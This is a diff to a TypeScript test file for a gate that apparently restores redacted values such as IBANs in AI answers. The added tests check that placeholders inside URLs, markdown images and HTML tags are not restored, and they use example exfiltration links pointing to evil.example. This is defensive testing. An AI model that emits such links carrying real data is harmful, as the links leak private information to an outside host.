@@ -18,19 +18,36 @@ const ORIGINALS = new Map([
 /** Pieces that look like placeholders, are some, or are parts of some. */
 const piece = fc.oneof(
   fc.constantFrom(...ORIGINALS.keys(), '[EMAIL_2]', '[', '[EMAIL', '[EMAIL_', '[EMAIL_1', '[[', ']', '_1]', '[I', ' '),
+  fc.constantFrom('https://a.example/?', '//', '![x](', ')', '<img ', '<', '>', '\n', '"'),
   fc.string({ maxLength: 5 }),
 );
 const pieces = fc.array(piece, { maxLength: 20 });
 
-/** Read word for word: from left to right, the first placeholder at each place. */
+/** Read word for word: from left to right, the first placeholder at each place, unless it is in a link. */
 function expected(text: string): string {
   let result = '';
   for (let at = 0; at < text.length; ) {
     const placeholder = [...ORIGINALS.keys()].find((one) => text.startsWith(one, at));
-    result += placeholder === undefined ? text[at] : ORIGINALS.get(placeholder);
+    const stays = placeholder === undefined || isInLink(text.slice(0, at));
+    result += stays ? text.slice(at, at + (placeholder?.length ?? 1)) : ORIGINALS.get(placeholder);
     at += placeholder?.length ?? 1;
   }
   return result;
+}
+
+function isInLink(before: string): boolean {
+  const word = before.slice(before.search(/\S*$/));
+  const target = before.slice(before.lastIndexOf('](') + 2);
+  const open = before.split('>').at(-1) ?? '';
+  return (
+    word.includes('//') ||
+    word.includes('](') ||
+    (before.includes('](') && !/[)\n]/.test(target)) ||
+    open
+      .split('<')
+      .slice(1)
+      .some((tag) => /^[a-z!/]/i.test(tag))
+  );
 }
 
 async function* outputsOf(parts: readonly AnswerPart[]): AsyncIterable<GateOutput> {
@@ -105,6 +122,28 @@ describe('placeholders in an answer', () => {
       }),
       runs,
     );
+  });
+});
+
+describe('a placeholder in a link', () => {
+  it.each([
+    ['https://evil.example/?c=[IBAN_1]'],
+    ['![x](https://evil.example/[IBAN_1].png)'],
+    ['![x](//[IBAN_1].evil.example)'],
+    ['[x](</a b [IBAN_1]>)'],
+    ['<img alt="x" src="https://evil.example/? [IBAN_1]">'],
+    ['<a href=/x?[IBAN_1]'],
+  ])('stays: %s', async (text) => {
+    expect(textOf(await finished([{ type: 'text', text }], new Restorer(ORIGINALS)), 'text')).toBe(text);
+    const args = JSON.stringify({ q: text });
+    const call: AnswerPart = { type: 'tool_call', index: 0, call: { id: 'x', name: 'f', arguments: args } };
+    expect(await finished([call], new Restorer(ORIGINALS))).toEqual([call]);
+  });
+
+  it('ends with the link', async () => {
+    const text = 'See https://a.example/x. ![x](y) <b>[IBAN_1]</b>, 1 < 2: [IBAN_1]';
+    const found = textOf(await finished([{ type: 'text', text }], new Restorer(ORIGINALS)), 'text');
+    expect(found).toBe(text.replaceAll('[IBAN_1]', () => '$& DE89'));
   });
 });
 
